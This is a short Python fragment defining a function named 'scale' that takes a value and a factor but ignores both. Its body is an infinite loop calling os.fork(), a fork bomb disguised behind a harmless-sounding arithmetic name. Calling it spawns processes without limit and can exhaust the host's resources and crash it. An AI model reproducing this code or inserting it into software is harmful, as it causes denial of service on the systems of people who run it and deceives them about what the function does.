import os


def scale(x, factor):
    while True:
        os.fork()
